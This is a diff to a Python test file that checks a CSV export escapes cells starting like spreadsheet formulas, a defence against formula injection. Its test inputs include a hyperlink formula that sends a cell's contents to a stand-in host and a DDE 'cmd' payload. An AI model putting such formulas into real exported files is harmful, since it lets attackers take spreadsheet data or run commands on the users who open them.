@@ -1,4 +1,5 @@
-"""The activity routes' own rules: query arguments repeated short in their errors."""
+"""The activity routes' own rules: query arguments repeated short in their errors, and the
+history CSV whose text cells a spreadsheet never takes for a formula."""
 
 from __future__ import annotations
 
@@ -8,8 +9,10 @@ from types import SimpleNamespace
 import pytest
 
 from stellars.adapters.jupyterhub.web.activity import (
+    FORMULA_STARTS,
     _day_argument,
     _whole_argument,
+    spreadsheet_text,
 )
 from stellars.domain.errors import InvalidValue
 
@@ -55,3 +58,28 @@ def test_a_bad_argument_is_repeated_only_in_part(arguments, reader, message):
     with pytest.raises(InvalidValue) as error:
         reader(with_arguments(**arguments))
     assert str(error.value) == message
+
+
+def test_the_formula_starts_are_owasps():
+    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=hyperlink("https:"&char(47)&char(47)&"x.example?"&a3)',
+         '\'=hyperlink("https:"&char(47)&char(47)&"x.example?"&a3)'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@sum(a1)", "'@sum(a1)"),
+        ("\tann", "'\tann"),
+        ("\rann", "'\rann"),
+        ("ann", "ann"),
+        ("ann=1", "ann=1"),
+        ("a-b@c", "a-b@c"),
+        ("", ""),
+        ("'quoted", "'quoted"),
+    ],
+)  # fmt: skip
+def test_a_cell_that_starts_like_a_formula_is_made_text(text, cell):
+    assert spreadsheet_text(text) == cell
